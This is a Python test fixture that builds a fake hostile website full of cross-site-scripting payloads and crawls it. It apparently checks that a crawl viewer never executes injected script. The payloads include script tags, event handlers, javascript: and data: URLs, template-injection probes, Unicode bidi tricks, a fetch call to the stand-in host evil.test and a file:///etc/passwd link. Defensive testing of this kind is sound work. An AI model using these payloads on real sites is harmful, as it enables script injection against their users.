"""A web that tries to run scripts in the browser of a user who views its crawl, and a real crawl of it.

Every page holds the word `trap`. What is to run sets `window.caught`, and asks http://evil.test/ for something.
"""

from __future__ import annotations

from pathlib import Path

from orienteer.search.indexing import update_index
from tests.fake_web.fake_response import redirect_to
from tests.fake_web.server import FakeWeb
from tests.fake_web.site import Made, MadeSite
from tests.live.live_crawls import crawled

HOST = "http://hostile.test"
RUN = "window.caught=1;fetch(`http://evil.test/`)"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f'"><svg onload="{RUN}"><rect/></svg>',
    f'\'><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"</title></head><body onload={RUN}>",
    f"<template><script>{RUN}</script></template>",
    "{{ 7*7 }}{% for x in () %}${7*7}#{7*7}<%= 7*7 %>",
    f"</bdi></p></li></ol><form action=//evil.test><button hx-get=/ hx-trigger=load hx-on:click='{RUN}'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<mark onmouseover={RUN}>trap</mark>",
    f"<a href=javascript:{RUN}>trap</a>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    "<base href=http://evil.test/><link rel=stylesheet href=//evil.test/x.css><style>body{display:none}</style>",
    f"\u202e>tpircs/<gnp.evil\u2066\u202d\u200f\u2028\u2029 <scr\u200dipt>{RUN}</scr\u200dipt>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d"
    * 40,
    "\u0000\u0001\u0008\u001b[31m\ufeff\ufffe\ue0000 \U000e0041\U000e007f trap",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e ＜img src=x onerror=alert(1)＞",
    "W" * 5000,
    "\u062a\u062c\u0631\u0628\u0629 <b>\u202bRTL</b> \u05e9\u05dc\u05d5\u05dd",
)

PATHS = (
    "/'onmouseover='alert(1)",
    "/\"><script>alert(1)</script>",
    "/?x='-alert(1)-'&y=\"><img src=x onerror=alert(1)>",
    "/javascript:alert(1)",
    "//evil.test/javascript:alert(1)//",
    "/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/&quot;onclick=alert(1)",
    "/" + "a" * 1500,
    "/\u202egnp.exe",
)  # fmt: skip

UNFETCHABLE = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//http://hostile.test/",
    f"\x01java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "blob:http://hostile.test/x",
    "file:///etc/passwd",
)


def hostile_web() -> dict[str, Made]:
    addresses = [*(f"/{number}" for number in range(len(PAYLOADS))), *PATHS]
    pages: dict[str, Made] = {}
    for number, address in enumerate(addresses):
        payload = PAYLOADS[number % len(PAYLOADS)]
        pages[HOST + address] = _page(payload, [])
    links = [(HOST + address, PAYLOADS[-number % len(PAYLOADS)]) for number, address in enumerate(addresses)]
    links += [(url, "a trap") for url in UNFETCHABLE]
    pages[HOST + "/"] = _page("The trap", links)
    pages[HOST + "/moved"] = redirect_to(f"javascript:{RUN}")
    return pages


def make_hostile_crawl(folder: Path) -> Path:
    with FakeWeb(MadeSite(hostile_web())) as web:
        crawled(web, HOST + "/", folder, scope="host")
    update_index(folder)
    return folder


def escaped(text: str) -> str:
    """As text in HTML, so that the payload arrives as it is."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _page(payload: str, links: list[tuple[str, str]]) -> str:
    """The payload everywhere: title, heading, text, description, and once unescaped."""
    listed = "".join(f'<a href="{escaped(url)}">{escaped(text)}</a>\n' for url, text in [*links, ("/moved", "moved")])
    said = escaped(payload)
    return (
        f'<html lang="en"><meta charset=utf-8><title>trap {said}</title><meta name=description content="{said}">'
        f"<h1>{said}</h1><p>trap {said} trap {said}</p>{listed}<div>{payload}</div>"
    )
